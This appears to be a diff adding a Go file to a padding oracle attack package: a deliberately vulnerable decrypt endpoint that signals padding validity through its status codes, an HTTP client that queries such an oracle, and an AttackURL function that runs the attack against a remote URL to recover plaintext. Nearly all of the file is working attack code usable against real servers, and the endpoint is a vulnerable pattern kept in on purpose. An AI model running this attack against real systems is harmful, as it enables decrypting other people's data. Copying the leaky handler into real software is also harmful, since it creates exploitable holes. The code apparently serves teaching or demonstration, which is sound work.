@@ -0,0 +1,109 @@
+package paddingoracle
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"sync"
+)
+
+// maxBodySize is plenty for the demo and stops anyone from sending huge bodies to the server.
+const maxBodySize = 1 << 20
+
+var errInvalidPadding = errors.New("Invalid padding")
+
+// Handler is the decrypt endpoint of a vulnerable server. It reads the IV + ciphertext from the
+// request body and answers 200 when it decrypts and 400 when it doesn't. That status code is all
+// the attack needs.
+func Handler(oracle Oracle) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method != http.MethodPost {
+			w.Header().Set("Allow", http.MethodPost)
+			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
+			return
+		}
+
+		body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, maxBodySize))
+		if err != nil {
+			http.Error(w, "body too large", http.StatusRequestEntityTooLarge)
+			return
+		}
+
+		if err := oracle.Decrypt(body); err != nil {
+			http.Error(w, "decryption failed", http.StatusBadRequest)
+			return
+		}
+
+		fmt.Fprintln(w, "ok")
+	})
+}
+
+// HTTPOracle is the client side, it asks a server like Handler if the padding is valid.
+// Any 4xx answer means invalid padding. Other failures (network errors, 5xx) would look like
+// bad guesses to the attack, so the first one is kept and returned by Err.
+// It is safe for concurrent use.
+type HTTPOracle struct {
+	URL    string
+	Client *http.Client
+
+	mu  sync.Mutex
+	err error
+}
+
+func NewHTTPOracle(url string) *HTTPOracle {
+	return &HTTPOracle{URL: url, Client: http.DefaultClient}
+}
+
+func (o *HTTPOracle) Decrypt(encrypted []byte) error {
+	if err := o.Err(); err != nil {
+		return err
+	}
+
+	resp, err := o.Client.Post(o.URL, "application/octet-stream", bytes.NewReader(encrypted))
+	if err != nil {
+		return o.fail(err)
+	}
+	io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+
+	switch {
+	case resp.StatusCode == http.StatusOK:
+		return nil
+	case resp.StatusCode >= 400 && resp.StatusCode < 500:
+		return errInvalidPadding
+	}
+
+	return o.fail(fmt.Errorf("Unexpected status from the oracle: %s", resp.Status))
+}
+
+// fail keeps the first error and returns it.
+func (o *HTTPOracle) fail(err error) error {
+	o.mu.Lock()
+	defer o.mu.Unlock()
+
+	if o.err == nil {
+		o.err = err
+	}
+	return o.err
+}
+
+// Err returns the first failure that wasn't an answer about the padding.
+func (o *HTTPOracle) Err() error {
+	o.mu.Lock()
+	defer o.mu.Unlock()
+
+	return o.err
+}
+
+// AttackURL runs the attack against a remote oracle.
+func AttackURL(url string, encrypted []byte, opts ...Option) ([]byte, error) {
+	oracle := NewHTTPOracle(url)
+
+	decrypted, err := Attack(oracle, encrypted, opts...)
+	if oracle.Err() != nil {
+		return nil, oracle.Err()
+	}
+	return decrypted, err
+}